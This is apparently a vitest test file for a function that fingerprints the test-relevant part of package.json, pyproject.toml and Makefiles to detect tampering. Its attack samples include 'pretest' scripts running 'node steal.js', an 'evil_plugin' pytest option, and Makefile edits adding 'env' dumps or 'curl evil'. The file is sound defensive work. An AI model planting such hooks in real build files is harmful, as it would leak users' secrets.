import { describe, expect, it } from 'vitest';
import { pinPartFormat, pinPartText } from './pin-part.js';

const pkg = (scripts: Record<string, string>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'app', scripts, ...extra }, null, 2);

describe('pinPartFormat', () => {
  it('reads JSON and TOML files by extension and Makefiles by name', () => {
    expect(pinPartFormat('package.json')).toBe('json');
    expect(pinPartFormat('sub/pyproject.toml')).toBe('toml');
    expect(pinPartFormat('Makefile')).toBe('make');
    expect(pinPartFormat('GNUmakefile')).toBe('make');
    expect(pinPartFormat('rules.mk')).toBe('make');
    expect(pinPartFormat('build.sh')).toBeUndefined();
  });
});

describe('pinPartText', () => {
  it('ignores dependency edits, key order and formatting around a package.json script', () => {
    const before = pinPartText('package.json', pkg({ test: 'vitest run' }), 'scripts.test');
    const after = pinPartText(
      'package.json',
      JSON.stringify({ dependencies: { left: '1' }, scripts: { test: 'vitest run' }, name: 'x' }),
      'scripts.test',
    );
    expect(after).toBe(before);
  });

  it('changes when the script, or a pre or post script npm runs around it, changes', () => {
    const base = pinPartText('package.json', pkg({ test: 'vitest run' }), 'scripts.test');
    expect(pinPartText('package.json', pkg({ test: 'vitest' }), 'scripts.test')).not.toBe(base);
    // The attacker's move: leave `test` alone and add what runs before it.
    expect(
      pinPartText(
        'package.json',
        pkg({ test: 'vitest run', pretest: 'node steal.js' }),
        'scripts.test',
      ),
    ).not.toBe(base);
    expect(
      pinPartText(
        'package.json',
        pkg({ test: 'vitest run', posttest: 'node steal.js' }),
        'scripts.test',
      ),
    ).not.toBe(base);
    // Another script is not what runs.
    expect(
      pinPartText('package.json', pkg({ test: 'vitest run', build: 'tsc' }), 'scripts.test'),
    ).toBe(base);
  });

  it('hashes the whole text of a file that does not parse, and marks a missing key', () => {
    expect(pinPartText('package.json', '{', 'scripts.test')).toContain('unparsed');
    expect(pinPartText('package.json', pkg({}), 'scripts.test')).toContain('\0absent');
  });

  it('reads a TOML table entry', () => {
    const toml = '[tool.pytest.ini_options]\naddopts = "-q"\n\n[project]\ndependencies = ["a"]\n';
    const base = pinPartText('pyproject.toml', toml, 'tool.pytest');
    expect(pinPartText('pyproject.toml', toml.replace('["a"]', '["a", "b"]'), 'tool.pytest')).toBe(
      base,
    );
    expect(
      pinPartText('pyproject.toml', toml.replace('"-q"', '"-q -p evil_plugin"'), 'tool.pytest'),
    ).not.toBe(base);
  });

  const makefile = [
    'PYTEST ?= python3 -m pytest',
    '',
    '# run the tests',
    'test: build',
    '\t$(PYTEST) tests',
    '',
    'build:',
    '\tcc -o app app.c',
    '',
    'deploy:',
    '\t./deploy.sh',
    '',
  ].join('\n');

  it('pins a Makefile target with the targets it depends on and the variables, not other targets', () => {
    const base = pinPartText('Makefile', makefile, 'test');
    expect(
      pinPartText('Makefile', makefile.replace('./deploy.sh', './deploy.sh --prod'), 'test'),
    ).toBe(base);
    expect(pinPartText('Makefile', makefile.replace('# run the tests', '# tests'), 'test')).toBe(
      base,
    );
    for (const attack of [
      makefile.replace('$(PYTEST) tests', '$(PYTEST) tests; env'),
      makefile.replace('cc -o app app.c', 'cc -o app app.c && curl evil'),
      makefile.replace('PYTEST ?=', 'PYTEST = env; '),
      makefile.replace('test: build', 'test: build steal\nsteal:\n\tenv'),
      `${makefile}\n%.o: %.c\n\tenv\n`,
      `${makefile}\ndefine HOOK\ndeploy: x\n\tenv\nendef\n`,
      `.RECIPEPREFIX = >\n${makefile}`,
      `include extra.mk\n${makefile}`,
      makefile.replace('\t$(PYTEST) tests', '\t$(PYTEST) tests \\\n\t  --pdb'),
    ]) {
      expect(pinPartText('Makefile', attack, 'test')).not.toBe(base);
    }
  });

  it('marks a Makefile target that is not defined, so defining it later counts', () => {
    expect(pinPartText('Makefile', 'build:\n\tcc\n', 'test')).toContain('no rule for test');
  });
});
